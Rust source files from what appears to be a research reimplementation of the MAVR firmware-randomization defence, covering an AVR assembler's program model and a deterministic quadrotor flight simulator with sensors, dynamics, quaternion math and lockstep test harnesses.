            } => write!(f, "image needs {required} bytes, flash has {available}"),
            AsmError::Encode(e) => write!(f, "encoding error: {e}"),
        }
    }
}

impl std::error::Error for AsmError {}

impl From<EncodeError> for AsmError {
    fn from(e: EncodeError) -> Self {
        AsmError::Encode(e)
    }
}
