//! Program representation: functions made of items, data objects, and the
//! toolchain options that shape code generation.

use avr_core::{Insn, Reg};

/// Toolchain options modelling the GCC flags the paper tunes (§VI-B1).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ToolchainOptions {
    /// Linker relaxation: replace `call`/`jmp` with the short-ranged
    /// relative `rcall`/`rjmp` where the target is in reach. GCC does this
    /// by default; MAVR requires `--no-relax` (i.e. `relax = false`) because
    /// relaxed cross-function branches break when function blocks move.
    pub relax: bool,
    /// GCC's `-mcall-prologues`: route function prologues/epilogues through
    /// a shared push/pop blob instead of inlining them. MAVR requires this
    /// off (`-mno-call-prologues`) — including in libc/libgcc — because the
    /// blob concentrates gadgets and its location leaks through hundreds of
    /// call sites.
    pub call_prologues: bool,
}

impl ToolchainOptions {
    /// The stock toolchain: relaxation and call-prologues on, as a
    /// size-optimized embedded build would ship.
    pub fn stock() -> Self {
        ToolchainOptions {
            relax: true,
            call_prologues: true,
        }
    }

    /// The MAVR custom toolchain: `--no-relax` and `-mno-call-prologues`.
    pub fn mavr() -> Self {
        ToolchainOptions {
            relax: false,
            call_prologues: false,
        }
    }
}

impl Default for ToolchainOptions {
    fn default() -> Self {
        ToolchainOptions::mavr()
    }
}

/// One element of a function body.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Item {
    /// A concrete instruction with no link-time fixup.
    Insn(Insn),
    /// Definition of a local label (zero width).
    Label(String),
    /// Call a global function by name. Becomes `call` (2 words) or, with
    /// relaxation, `rcall` (1 word) when in reach.
    CallSym(String),
    /// Jump to a global function by name (`jmp`/`rjmp` under relaxation).
    JmpSym(String),
    /// Jump to `name + byte_offset` — the switch-statement trampoline shape
    /// the paper's patcher must resolve by binary search because the target
    /// is *inside* a function block (§VI-B3). Always a long `jmp`.
    JmpSymOffset {
        /// Target symbol.
        name: String,
        /// Byte offset into the symbol.
        byte_offset: u32,
    },
    /// Unconditional relative jump to a local label (always `rjmp`).
    RjmpLabel(String),
    /// Conditional branch (`brbs`/`brbc`) to a local label.
    Branch {
        /// SREG bit index.
        s: u8,
        /// Branch when the bit is set (`brbs`) or clear (`brbc`).
        when_set: bool,
        /// Target label.
        label: String,
    },
    /// Load one byte of a **data/rodata** symbol's flash byte address into a
    /// register (for `elpm` sequences). The linker refuses this for
    /// function symbols — C compilers encode those as call/jmp instead, and
    /// MAVR relies on that (§VI-B2).
    LdiSymByte {
        /// Destination register (r16..r31).
        d: Reg,
        /// Symbol whose address is taken.
        sym: String,
        /// Byte offset added to the symbol address before extraction.
        offset: u32,
        /// Which byte of the 24-bit address: 0 = low, 1 = mid, 2 = high.
        byte: u8,
    },
    /// Raw 16-bit word emitted verbatim (inline constants).
    Word(u16),
}

/// A named function block — the unit of MAVR randomization.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Function {
    /// Symbol name.
    pub name: String,
    /// Body items.
    pub items: Vec<Item>,
    /// Whether MAVR may move this block. Interrupt vector targets and the
    /// bootloader are pinned (`false`).
    pub movable: bool,
}

impl Function {
    /// New movable function.
    pub fn new(name: impl Into<String>) -> Self {
        Function {
            name: name.into(),
            items: Vec::new(),
            movable: true,
        }
    }
}

/// A read-only data object placed after the text section.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DataObject {
    /// Symbol name.
    pub name: String,
    /// Raw contents (padded to even length by the linker).
    pub bytes: Vec<u8>,
    /// `(byte_offset, function_name)` pairs: at `byte_offset` within this
    /// object, store the 16-bit **word address** of the named function.
    /// These are the vtable/call-routing-array slots MAVR must update.
    pub fn_ptrs: Vec<(usize, String)>,
}

impl DataObject {
    /// New data object with plain contents.
    pub fn new(name: impl Into<String>, bytes: Vec<u8>) -> Self {
        DataObject {
            name: name.into(),
            bytes,
            fn_ptrs: Vec::new(),
        }
    }

    /// New function-pointer table: `len = 2 * targets.len()` bytes, each
    /// slot holding the word address of the corresponding function.
    pub fn fn_table(name: impl Into<String>, targets: &[&str]) -> Self {
        DataObject {
            name: name.into(),
            bytes: vec![0; targets.len() * 2],
            fn_ptrs: targets
                .iter()
                .enumerate()
                .map(|(i, t)| (i * 2, t.to_string()))
                .collect(),
        }
    }
}

/// A whole program, ready to link.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Program {
    /// Target device.
    pub device: avr_core::device::Device,
    /// Interrupt vector handlers; index 0 is the reset vector. `None`
    /// entries point at `__bad_interrupt` (generated automatically).
    pub vectors: Vec<Option<String>>,
    /// All functions, in link order.
    pub functions: Vec<Function>,
    /// All data objects, in link order (placed after text).
    pub rodata: Vec<DataObject>,
    /// Toolchain behaviour.
    pub toolchain: ToolchainOptions,
}

impl Program {
    /// An empty program for `device` with `n_vectors` interrupt vectors
    /// (the ATmega2560 has 57).
    pub fn new(device: avr_core::device::Device, n_vectors: usize) -> Self {
        Program {
            device,
            vectors: vec![None; n_vectors],
            functions: Vec::new(),
            rodata: Vec::new(),
            toolchain: ToolchainOptions::default(),
        }
    }

    /// Add a function, returning `&mut self` for chaining.
    pub fn push_function(&mut self, f: Function) -> &mut Self {
        self.functions.push(f);
        self
    }

    /// Look up a function by name.
    pub fn function(&self, name: &str) -> Option<&Function> {
        self.functions.iter().find(|f| f.name == name)
    }
}

/// Fluent builder for function bodies.
///
/// ```
/// use avr_asm::FnBuilder;
/// use avr_core::{Insn, Reg};
///
/// let f = FnBuilder::new("blink")
///     .insn(Insn::Ldi { d: Reg::R24, k: 1 })
///     .label("again")
///     .call("delay_ms")
///     .rjmp("again")
///     .build();
/// assert_eq!(f.name, "blink");
/// ```
#[derive(Debug, Clone)]
pub struct FnBuilder {
    f: Function,
}

impl FnBuilder {
    /// Start a new movable function.
    pub fn new(name: impl Into<String>) -> Self {
        FnBuilder {
            f: Function::new(name),
        }
    }

    /// Mark the function as pinned (not movable by MAVR).
    pub fn fixed(mut self) -> Self {
        self.f.movable = false;
        self
    }

    /// Append a concrete instruction.
    pub fn insn(mut self, i: Insn) -> Self {
        self.f.items.push(Item::Insn(i));
        self
    }

    /// Append several concrete instructions.
    pub fn insns(mut self, is: impl IntoIterator<Item = Insn>) -> Self {
        self.f.items.extend(is.into_iter().map(Item::Insn));
        self
    }

    /// Define a local label.
    pub fn label(mut self, l: impl Into<String>) -> Self {
        self.f.items.push(Item::Label(l.into()));
        self
    }

    /// Call a global function.
    pub fn call(mut self, name: impl Into<String>) -> Self {
        self.f.items.push(Item::CallSym(name.into()));
        self
    }

    /// Jump to a global function.
    pub fn jmp(mut self, name: impl Into<String>) -> Self {
        self.f.items.push(Item::JmpSym(name.into()));
        self
    }

    /// Relative jump to a local label.
    pub fn rjmp(mut self, l: impl Into<String>) -> Self {
        self.f.items.push(Item::RjmpLabel(l.into()));
        self
    }

    /// `breq label`.
    pub fn breq(self, l: impl Into<String>) -> Self {
        self.br(avr_core::sreg::Z, true, l)
    }

    /// `brne label`.
    pub fn brne(self, l: impl Into<String>) -> Self {
        self.br(avr_core::sreg::Z, false, l)
    }

    /// `brcc label`.
    pub fn brcc(self, l: impl Into<String>) -> Self {
        self.br(avr_core::sreg::C, false, l)
    }

    /// `brcs label`.
    pub fn brcs(self, l: impl Into<String>) -> Self {
        self.br(avr_core::sreg::C, true, l)
    }

    /// Generic conditional branch on SREG bit `s`.
    pub fn br(mut self, s: u8, when_set: bool, l: impl Into<String>) -> Self {
        self.f.items.push(Item::Branch {
            s,
            when_set,
            label: l.into(),
        });
        self
    }

    /// Append a raw item.
    pub fn item(mut self, item: Item) -> Self {
        self.f.items.push(item);
        self
    }

    /// Finish.
    pub fn build(self) -> Function {
        self.f
    }
}
