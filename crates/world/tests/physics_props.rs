//! Determinism and closed-loop properties of the physical world.
//!
//! The expensive board-coupled tests use small step counts: one world
//! step is 16 000 machine cycles, so even "short" flights exercise
//! millions of simulated cycles.

use mavr::policy::RandomizationPolicy;
use mavr_board::MavrBoard;
use mavr_world::{FlightHarness, Scenario, World, TARGET_ALT_M};
use proptest::prelude::*;
use synth_firmware::{apps, build, BuildOptions};

/// Drive a world open-loop from a PWM trace (one u16 per step: low byte
/// thrust, high byte pitch), returning the final state.
fn fly_open_loop(world: &mut World, trace: &[u16]) {
    for &w in trace {
        let _ = world.sample();
        let [t, p] = w.to_le_bytes();
        world.step(f64::from(t) / 255.0, (f64::from(p) - 128.0) / 128.0);
    }
}

proptest! {
    /// Checkpoint-anywhere: capturing and restoring a `WorldState` at any
    /// cut point of any flight yields a bit-identical remainder — sensor
    /// readings and trajectory both.
    #[test]
    fn world_checkpoint_cut_is_bit_identical(
        seed in any::<u64>(),
        trace in proptest::collection::vec(any::<u16>(), 2..160),
        cut_frac in 0..100u8,
    ) {
        let scenario = Scenario::all()[(seed % 3) as usize];
        let cut = trace.len() * usize::from(cut_frac) / 100;

        // Straight-through flight.
        let mut whole = World::new(scenario, seed);
        fly_open_loop(&mut whole, &trace);

        // Same flight, interrupted by a state round-trip at `cut`.
        let mut first = World::new(scenario, seed);
        fly_open_loop(&mut first, &trace[..cut]);
        let mut resumed = World::restore(&first.state()).unwrap();
        fly_open_loop(&mut resumed, &trace[cut..]);

        prop_assert_eq!(whole.state(), resumed.state());
    }
}

fn flight_board(seed: u64) -> MavrBoard {
    let fw = build(&apps::synth_quad_flight(), &BuildOptions::safe_mavr()).unwrap();
    MavrBoard::provision(&fw.image, seed, RandomizationPolicy::default()).unwrap()
}

fn harness(board_seed: u64, scenario: Scenario, world_seed: u64) -> FlightHarness {
    FlightHarness::new(flight_board(board_seed), World::new(scenario, world_seed))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4))]
    /// Harness chunking-invariance: any partition of N steps across
    /// `run_steps` calls produces a bit-identical world and machine.
    #[test]
    fn harness_batching_is_bit_identical(
        seed in any::<u64>(),
        batches in proptest::collection::vec(1..40u64, 1..8),
    ) {
        let total: u64 = batches.iter().sum();

        let mut whole = harness(0xf11e, Scenario::Turbulent, seed);
        whole.run_steps(total).unwrap();

        let mut split = harness(0xf11e, Scenario::Turbulent, seed);
        for b in &batches {
            split.run_steps(*b).unwrap();
        }

        prop_assert_eq!(whole.world.state(), split.world.state());
        prop_assert_eq!(
            whole.board.app.machine.cycles(),
            split.board.app.machine.cycles()
        );
        prop_assert_eq!(whole.board.app.machine.pwm, split.board.app.machine.pwm);
    }
}

/// Block-fused and fully uncached execution see the same physics: the
/// ADC-visible sensor stream, the PWM outputs, and the trajectory are
/// bit-identical whichever execution tier runs the firmware.
#[test]
fn fused_and_uncached_boards_fly_identical_trajectories() {
    let mut fused = harness(0xcafe, Scenario::Hover, 99);
    let mut uncached = harness(0xcafe, Scenario::Hover, 99);
    uncached.board.app.machine.set_predecode(false);

    for _ in 0..150 {
        fused.step_once().unwrap();
        uncached.step_once().unwrap();
        assert_eq!(fused.world.state(), uncached.world.state());
    }
    assert_eq!(
        fused.board.app.machine.cycles(),
        uncached.board.app.machine.cycles()
    );
    assert_eq!(fused.board.app.machine.pwm, uncached.board.app.machine.pwm);
}

/// The closed loop closes: the flight firmware, reading the simulated
/// sensors through the ADC and driving the motors through the PWM,
/// holds the hover setpoint.
#[test]
fn flight_firmware_holds_hover_altitude() {
    let mut h = harness(0xda7a, Scenario::Hover, 7);
    h.run_steps(1500).unwrap();
    let alt = h.world.altitude();
    assert!(
        (alt - TARGET_ALT_M).abs() < 5.0,
        "altitude drifted to {alt} m"
    );
    assert_eq!(h.world.ground_impacts(), 0);
    assert_eq!(h.board.recoveries(), 0, "benign flight must not recover");
    assert_eq!(h.recoveries_caught(), 0);
}

/// With the motors never driven (no flight controller in the firmware),
/// the vehicle falls out of the sky and the world records the crash —
/// the physical-consequence baseline for non-flight images.
#[test]
fn non_flight_firmware_falls_and_impacts() {
    let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).unwrap();
    let board = MavrBoard::provision(&fw.image, 3, RandomizationPolicy::default()).unwrap();
    let mut h = FlightHarness::new(board, World::new(Scenario::Hover, 5));
    // Start low so the fall (terminal velocity ≈ 8 m/s) fits in a short run.
    h.world.body.pos = mavr_world::Vec3::new(0.0, 0.0, 12.0);
    h.run_steps(3000).unwrap();
    assert!(h.world.on_ground(), "altitude still {}", h.world.altitude());
    assert_eq!(h.world.ground_impacts(), 1);
}
