//! Lockstep coupling between the board simulator and the world.
//!
//! The firmware runs at 16 MHz; the world integrates at 1 kHz. One
//! world step therefore spans [`CYCLES_PER_STEP`] = 16 000 machine
//! cycles. Each step:
//!
//! 1. samples the sensor rig into the ADC's analog input channels,
//! 2. runs the board up to the **next absolute multiple** of
//!    `CYCLES_PER_STEP` (not "16 000 more cycles" — recoveries may have
//!    moved the cycle counter, and absolute boundaries are what make
//!    outer batching irrelevant),
//! 3. replays any recoveries the master performed during that run as
//!    dead-motor time in the world (the real reflash takes
//!    `StartupReport::total_ms` of wall time during which the vehicle
//!    is falling), accumulating the altitude lost,
//! 4. reads the PWM duty cycles and advances the world one timestep.
//!
//! Because the boundaries are absolute and the board's own `run` is
//! linear in how cycles are partitioned, `run_steps(a); run_steps(b)`
//! is bit-identical to `run_steps(a + b)` — the chunking-invariance
//! property the campaign checkpointing relies on.

use crate::World;
use mavr_board::{BoardEvent, MasterError, MavrBoard};

/// Machine cycles per world timestep: 16 MHz / 1 kHz.
pub const CYCLES_PER_STEP: u64 = 16_000;

/// A board flying in a world.
pub struct FlightHarness {
    /// The MAVR board under test.
    pub board: MavrBoard,
    /// The physical world it flies in.
    pub world: World,
    events_seen: usize,
    next_boundary: u64,
    recovery_pending: bool,
    alt_lost_to_recoveries: f64,
    recoveries_caught: u32,
}

impl FlightHarness {
    /// Couple a freshly provisioned board to a world. Events already in
    /// the board's log (the provisioning boot) are not replayed.
    pub fn new(board: MavrBoard, world: World) -> FlightHarness {
        let now = board.app.machine.cycles();
        FlightHarness {
            events_seen: board.events.len(),
            next_boundary: (now / CYCLES_PER_STEP + 1) * CYCLES_PER_STEP,
            recovery_pending: false,
            alt_lost_to_recoveries: 0.0,
            recoveries_caught: 0,
            board,
            world,
        }
    }

    /// Advance one world timestep (and the board to the matching cycle
    /// boundary).
    pub fn step_once(&mut self) -> Result<(), MasterError> {
        let s = self.world.sample();
        let m = &mut self.board.app.machine;
        m.adc.channels[0] = s[0];
        m.adc.channels[1] = s[1];
        m.adc.channels[2] = s[2];
        let now = m.cycles();
        if now < self.next_boundary {
            self.board.run(self.next_boundary - now)?;
        }
        self.next_boundary += CYCLES_PER_STEP;
        self.catch_up_recoveries();
        let pwm = self.board.app.machine.pwm;
        self.world.step(pwm.thrust_duty(), pwm.pitch_duty());
        Ok(())
    }

    /// Advance `n` world timesteps. Any partition of `n` across calls
    /// yields a bit-identical final state.
    pub fn run_steps(&mut self, n: u64) -> Result<(), MasterError> {
        for _ in 0..n {
            self.step_once()?;
        }
        Ok(())
    }

    /// Replay master recoveries that happened since the last step as
    /// dead-motor world time: the reflash takes `total_ms` wall
    /// milliseconds (= world steps at dt 1 ms) during which the PWM is
    /// reset and the vehicle free-falls.
    fn catch_up_recoveries(&mut self) {
        while self.events_seen < self.board.events.len() {
            match &self.board.events[self.events_seen] {
                BoardEvent::Recovery { .. } => self.recovery_pending = true,
                BoardEvent::Boot { report, .. } if self.recovery_pending => {
                    self.recovery_pending = false;
                    let alt_before = self.world.altitude();
                    let dead_steps = report.total_ms.ceil() as u64;
                    for _ in 0..dead_steps {
                        self.world.step(0.0, 0.0);
                    }
                    let lost = alt_before - self.world.altitude();
                    if lost > 0.0 {
                        self.alt_lost_to_recoveries += lost;
                    }
                    self.recoveries_caught += 1;
                }
                BoardEvent::Boot { .. } => {}
            }
            self.events_seen += 1;
        }
    }

    /// Total meters of altitude lost across all replayed recoveries.
    pub fn alt_lost_to_recoveries(&self) -> f64 {
        self.alt_lost_to_recoveries
    }

    /// Number of recoveries replayed into the world.
    pub fn recoveries_caught(&self) -> u32 {
        self.recoveries_caught
    }
}
