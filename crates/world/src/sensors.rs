//! Deterministic sensor models feeding the ADC.
//!
//! Three instruments are wired to the first three ADC channels, matching
//! what the synthetic flight firmware samples:
//!
//! | channel | instrument | transfer function (10-bit counts)        |
//! |---------|------------|------------------------------------------|
//! | 0       | gyro (y)   | `512 + 64·ω_y` (rad/s)                   |
//! | 1       | accel tilt | `512 + 512·ẑ_world.x` (lean toward +x)   |
//! | 2       | baro       | `8 · altitude_m`                         |
//!
//! Noise is the sum of two uniform draws (triangular distribution, zero
//! mean) scaled by `noise_counts`. Every call makes **exactly six** RNG
//! draws — two per channel, even at zero amplitude — so the RNG stream
//! position depends only on the number of samples taken, never on the
//! flight path. That fixed draw count is what makes checkpoint/resume
//! and chunked execution bit-identical.

use crate::dynamics::RigidBody;
use crate::math::Vec3;
use rand::rngs::StdRng;
use rand::Rng;

/// Full-scale ADC reading (10-bit).
pub const ADC_FULL_SCALE: u16 = 1023;

/// The sensor suite: transfer functions plus a common noise amplitude.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SensorRig {
    /// Peak-ish noise amplitude in ADC counts (triangular, zero mean).
    pub noise_counts: f64,
}

impl SensorRig {
    /// Sample all three instruments. Exactly 6 RNG draws per call.
    pub fn sample(&self, body: &RigidBody, rng: &mut StdRng) -> [u16; 3] {
        let noise = |rng: &mut StdRng| {
            (rng.random::<f64>() + rng.random::<f64>() - 1.0) * self.noise_counts
        };
        let gyro = 512.0 + 64.0 * body.omega.y + noise(rng);
        let z_world = body.att.rotate(Vec3::new(0.0, 0.0, 1.0));
        let tilt = 512.0 + 512.0 * z_world.x + noise(rng);
        let baro = 8.0 * body.pos.z + noise(rng);
        [quantize(gyro), quantize(tilt), quantize(baro)]
    }
}

/// Truncate to counts and clamp to the 10-bit range.
fn quantize(v: f64) -> u16 {
    (v as i64).clamp(0, ADC_FULL_SCALE as i64) as u16
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn level_hover_reads_midscale_and_baro_tracks_altitude() {
        let rig = SensorRig { noise_counts: 0.0 };
        let mut rng = StdRng::seed_from_u64(1);
        let body = RigidBody {
            pos: Vec3::new(0.0, 0.0, 50.0),
            ..RigidBody::default()
        };
        let s = rig.sample(&body, &mut rng);
        assert_eq!(s, [512, 512, 400]); // 8 counts/m · 50 m = 400
    }

    #[test]
    fn draw_count_is_independent_of_noise_amplitude() {
        let body = RigidBody::default();
        let mut a = StdRng::seed_from_u64(9);
        let mut b = StdRng::seed_from_u64(9);
        SensorRig { noise_counts: 0.0 }.sample(&body, &mut a);
        SensorRig { noise_counts: 8.0 }.sample(&body, &mut b);
        assert_eq!(a.state(), b.state());
    }

    #[test]
    fn readings_clamp_to_ten_bits() {
        let rig = SensorRig { noise_counts: 0.0 };
        let mut rng = StdRng::seed_from_u64(2);
        let body = RigidBody {
            pos: Vec3::new(0.0, 0.0, 500.0),   // 4000 counts, off scale
            omega: Vec3::new(0.0, -20.0, 0.0), // -768 counts, below zero
            ..RigidBody::default()
        };
        let s = rig.sample(&body, &mut rng);
        assert_eq!(s[0], 0);
        assert_eq!(s[2], ADC_FULL_SCALE);
    }
}
