//! Fixed-timestep rigid-body flight dynamics.
//!
//! The model is a single-axis-maneuvering quadrotor: thrust along the
//! body z axis, one controllable torque axis (pitch, body y), linear and
//! angular drag, gravity, and a ground plane at z = 0. The integrator is
//! semi-implicit Euler at a fixed `dt`, which together with the pure
//! `+ - * / sqrt` math in [`crate::math`] makes every trajectory
//! bit-reproducible for a given input sequence.
//!
//! The constants are calibrated against the synthetic flight firmware's
//! fixed-point controller (see `synth-firmware`'s `flight_control`):
//! the controller's hover command is OCR0A = 140 at 50 m, so
//! `max_thrust` is chosen to make thrust equal weight exactly at duty
//! 140/255, and the drag terms make both the altitude and pitch loops
//! overdamped at the firmware's gains.

use crate::math::{Quat, Vec3};

/// Physical parameters of the vehicle and environment.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct WorldParams {
    /// Vehicle mass, kg.
    pub mass: f64,
    /// Gravitational acceleration, m/s².
    pub gravity: f64,
    /// Thrust at duty 1.0, newtons. Default puts hover at duty 140/255.
    pub max_thrust: f64,
    /// Linear drag coefficient, N·s/m (force = -lin_drag · v).
    pub lin_drag: f64,
    /// Angular acceleration at full pitch duty, rad/s².
    pub torque_per_duty: f64,
    /// Angular drag coefficient, 1/s (α -= ang_drag · ω).
    pub ang_drag: f64,
    /// Integration timestep, seconds.
    pub dt: f64,
}

impl Default for WorldParams {
    fn default() -> Self {
        WorldParams {
            mass: 1.0,
            gravity: 9.8,
            // Weight / hover-duty: 9.8 / (140/255).
            max_thrust: 9.8 * 255.0 / 140.0,
            lin_drag: 1.2,
            torque_per_duty: 8.0,
            ang_drag: 1.5,
            dt: 0.001,
        }
    }
}

/// Rigid-body state: position, velocity, attitude, body angular rate.
#[derive(Debug, Clone, Copy, PartialEq, Default)]
pub struct RigidBody {
    /// World-frame position, meters. z is altitude above ground.
    pub pos: Vec3,
    /// World-frame velocity, m/s.
    pub vel: Vec3,
    /// Attitude (body → world).
    pub att: Quat,
    /// Body-frame angular rate, rad/s.
    pub omega: Vec3,
}

/// What happened at the ground plane during one step.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct GroundContact {
    /// The body is at z = 0 after this step.
    pub on_ground: bool,
    /// Vertical speed at the moment of clamping (pre-clamp), m/s.
    /// Negative means descending into the ground.
    pub impact_vz: f64,
}

impl RigidBody {
    /// Advance one timestep driven by motor duty cycles.
    ///
    /// `thrust_duty` ∈ [0, 1] scales `max_thrust` along body z;
    /// `pitch_duty` ∈ [-1, 1] commands torque about body y. Returns the
    /// ground-contact outcome so the caller can latch crash events.
    pub fn step(&mut self, p: &WorldParams, thrust_duty: f64, pitch_duty: f64) -> GroundContact {
        // Angular dynamics (body y only is actuated; drag on all axes).
        let alpha = Vec3::new(
            -p.ang_drag * self.omega.x,
            p.torque_per_duty * pitch_duty - p.ang_drag * self.omega.y,
            -p.ang_drag * self.omega.z,
        );
        self.omega = self.omega + alpha.scale(p.dt);
        self.att = self.att.integrate(self.omega, p.dt);

        // Linear dynamics: thrust along the (new) body z, gravity, drag.
        let thrust_w = self
            .att
            .rotate(Vec3::new(0.0, 0.0, 1.0))
            .scale(thrust_duty * p.max_thrust / p.mass);
        let acc = thrust_w + Vec3::new(0.0, 0.0, -p.gravity) + self.vel.scale(-p.lin_drag / p.mass);
        self.vel = self.vel + acc.scale(p.dt);
        self.pos = self.pos + self.vel.scale(p.dt);

        // Ground plane.
        let impact_vz = self.vel.z;
        if self.pos.z <= 0.0 {
            self.pos = Vec3::new(self.pos.x, self.pos.y, 0.0);
            if self.vel.z < 0.0 {
                self.vel = Vec3::new(self.vel.x, self.vel.y, 0.0);
            }
            GroundContact {
                on_ground: true,
                impact_vz,
            }
        } else {
            GroundContact {
                on_ground: false,
                impact_vz,
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hover_duty_holds_altitude() {
        let p = WorldParams::default();
        let mut b = RigidBody {
            pos: Vec3::new(0.0, 0.0, 50.0),
            ..RigidBody::default()
        };
        for _ in 0..2000 {
            b.step(&p, 140.0 / 255.0, 0.0);
        }
        // Thrust exactly balances weight: no drift beyond rounding.
        assert!((b.pos.z - 50.0).abs() < 1e-6, "z = {}", b.pos.z);
    }

    #[test]
    fn zero_thrust_falls_and_impacts() {
        let p = WorldParams::default();
        let mut b = RigidBody {
            pos: Vec3::new(0.0, 0.0, 30.0),
            ..RigidBody::default()
        };
        let mut hit = None;
        for _ in 0..20_000 {
            let c = b.step(&p, 0.0, 0.0);
            if c.on_ground {
                hit = Some(c.impact_vz);
                break;
            }
        }
        // Falling from 30 m with drag: terminal-ish speed well past the
        // 2 m/s crash threshold.
        let vz = hit.expect("never reached the ground");
        assert!(vz < -2.0, "impact vz = {vz}");
    }

    #[test]
    fn pitch_duty_produces_forward_motion() {
        let p = WorldParams::default();
        let mut b = RigidBody {
            pos: Vec3::new(0.0, 0.0, 50.0),
            ..RigidBody::default()
        };
        // Brief nose-down pulse, then hover thrust: tilted lift pulls +x.
        for i in 0..3000 {
            let pitch = if i < 200 { 0.3 } else { 0.0 };
            b.step(&p, 140.0 / 255.0, pitch);
        }
        assert!(b.pos.x > 0.5, "x = {}", b.pos.x);
    }
}
