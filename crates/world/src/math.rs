//! Minimal 3-vector and quaternion math for the flight dynamics.
//!
//! Every operation here is a finite composition of IEEE-754 `+ - * /`
//! and `sqrt` — all of which are bit-exact across platforms and build
//! modes — so trajectories are reproducible wherever the campaign runs.
//! No transcendental functions: attitude is integrated directly as
//! `q̇ = ½ q ⊗ (0, ω)` rather than through axis-angle trigonometry.

/// A 3-vector of f64.
#[derive(Debug, Clone, Copy, PartialEq, Default)]
pub struct Vec3 {
    /// X component (world: north-ish horizontal).
    pub x: f64,
    /// Y component (world: east-ish horizontal).
    pub y: f64,
    /// Z component (world: up).
    pub z: f64,
}

impl Vec3 {
    /// Construct from components.
    pub const fn new(x: f64, y: f64, z: f64) -> Vec3 {
        Vec3 { x, y, z }
    }

    /// The zero vector.
    pub const ZERO: Vec3 = Vec3::new(0.0, 0.0, 0.0);

    /// Scale by a scalar.
    pub fn scale(self, k: f64) -> Vec3 {
        Vec3::new(self.x * k, self.y * k, self.z * k)
    }

    /// Cross product.
    pub fn cross(self, o: Vec3) -> Vec3 {
        Vec3::new(
            self.y * o.z - self.z * o.y,
            self.z * o.x - self.x * o.z,
            self.x * o.y - self.y * o.x,
        )
    }
}

impl std::ops::Add for Vec3 {
    type Output = Vec3;

    fn add(self, o: Vec3) -> Vec3 {
        Vec3::new(self.x + o.x, self.y + o.y, self.z + o.z)
    }
}

/// A unit quaternion representing attitude (body → world rotation).
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Quat {
    /// Scalar part.
    pub w: f64,
    /// Vector part, x.
    pub x: f64,
    /// Vector part, y.
    pub y: f64,
    /// Vector part, z.
    pub z: f64,
}

impl Default for Quat {
    fn default() -> Self {
        Quat::IDENTITY
    }
}

impl Quat {
    /// The identity rotation (level attitude).
    pub const IDENTITY: Quat = Quat {
        w: 1.0,
        x: 0.0,
        y: 0.0,
        z: 0.0,
    };

    /// Rotate a body-frame vector into the world frame:
    /// `v' = v + 2 (q_v × (q_v × v + w v))`.
    pub fn rotate(self, v: Vec3) -> Vec3 {
        let qv = Vec3::new(self.x, self.y, self.z);
        let t = qv.cross(qv.cross(v) + v.scale(self.w));
        v + t.scale(2.0)
    }

    /// Advance the attitude by the body angular rate `omega` (rad/s) over
    /// `dt` seconds using first-order integration of `q̇ = ½ q ⊗ (0, ω)`,
    /// then renormalize. Multiplications and one `sqrt` only.
    pub fn integrate(self, omega: Vec3, dt: f64) -> Quat {
        let h = 0.5 * dt;
        let q = Quat {
            w: self.w - h * (self.x * omega.x + self.y * omega.y + self.z * omega.z),
            x: self.x + h * (self.w * omega.x + self.y * omega.z - self.z * omega.y),
            y: self.y + h * (self.w * omega.y + self.z * omega.x - self.x * omega.z),
            z: self.z + h * (self.w * omega.z + self.x * omega.y - self.y * omega.x),
        };
        let n = (q.w * q.w + q.x * q.x + q.y * q.y + q.z * q.z).sqrt();
        Quat {
            w: q.w / n,
            x: q.x / n,
            y: q.y / n,
            z: q.z / n,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn identity_rotation_is_a_noop() {
        let v = Vec3::new(1.0, -2.0, 3.0);
        assert_eq!(Quat::IDENTITY.rotate(v), v);
    }

    #[test]
    fn integration_tilts_the_thrust_axis() {
        // Pitch forward at 1 rad/s for 0.5 s: body z leans toward +x.
        let mut q = Quat::IDENTITY;
        for _ in 0..500 {
            q = q.integrate(Vec3::new(0.0, 1.0, 0.0), 0.001);
        }
        let z = q.rotate(Vec3::new(0.0, 0.0, 1.0));
        // sin(0.5) ≈ 0.479, cos(0.5) ≈ 0.878.
        assert!((z.x - 0.479).abs() < 0.01, "z.x = {}", z.x);
        assert!((z.z - 0.878).abs() < 0.01, "z.z = {}", z.z);
        // Unit length is preserved by the renormalization.
        let n = z.x * z.x + z.y * z.y + z.z * z.z;
        assert!((n - 1.0).abs() < 1e-12);
    }

    #[test]
    fn cross_product_is_anticommutative() {
        let a = Vec3::new(1.0, 2.0, 3.0);
        let b = Vec3::new(-4.0, 0.5, 2.0);
        assert_eq!(a.cross(b), b.cross(a).scale(-1.0));
    }
}
