//! # mavr-world — the physical arena around the MAVR board
//!
//! Everything below the ADC pins and above the PWM pins: deterministic
//! sensor physics, a fixed-timestep rigid-body flight model, and a
//! harness that advances the [`mavr_board::MavrBoard`] simulator and the
//! world in lockstep so that code-reuse attacks on the firmware produce
//! *measurable physical consequences* — altitude excursions, ground
//! impacts, meters of altitude lost while the master reflashes.
//!
//! ## Determinism contract
//!
//! A `World` trajectory is a pure function of `(scenario, seed, input
//! sequence)`. Three properties make it hold to the bit:
//!
//! 1. all math is IEEE-754 `+ - * /` and `sqrt` in a fixed evaluation
//!    order — no transcendentals, no platform-varying libm calls;
//! 2. the sensor rig makes exactly six RNG draws per sample regardless
//!    of flight state or noise amplitude, so the RNG stream position is
//!    a function of the step count alone;
//! 3. the harness advances the board to absolute cycle boundaries
//!    (multiples of [`harness::CYCLES_PER_STEP`]), so any outer batching
//!    of `run_steps` calls produces the same interleaving.
//!
//! The same contract lets [`WorldState`] round-trip through the snapshot
//! wire and resume mid-campaign with byte-identical results.

mod dynamics;
mod harness;
mod math;
mod sensors;

pub use dynamics::{GroundContact, RigidBody, WorldParams};
pub use harness::{FlightHarness, CYCLES_PER_STEP};
